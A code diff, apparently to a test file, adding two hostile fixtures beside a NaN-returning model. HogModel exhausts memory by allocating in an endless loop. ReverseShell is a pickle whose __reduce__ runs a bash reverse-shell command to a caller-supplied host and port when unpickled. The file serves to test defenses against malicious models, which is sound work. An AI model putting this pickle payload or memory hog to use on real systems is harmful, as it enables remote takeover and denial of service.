@@ -31,3 +31,24 @@ class NaNModel:
 
     def predict(self, X: Any) -> Any:
         return np.full(len(X), np.nan)
+
+
+class HogModel:
+    """Allocates without bound (64 MiB at a time, each touched) until the process's memory runs out."""
+
+    def predict(self, X: Any) -> Any:
+        hoard = []
+        while True:
+            hoard.append(np.ones(8 * 1024 * 1024))
+
+
+class ReverseShell:
+    """A pickle that, if anything ever unpickled it, would connect a shell back to host:port."""
+
+    def __init__(self, host: str, port: int) -> None:
+        self.command = f"bash -c 'bash -i >& /dev/tcp/{host}/{port} 0>&1'"
+
+    def __reduce__(self) -> tuple[Any, ...]:
+        import os
+
+        return (os.system, (self.command,))
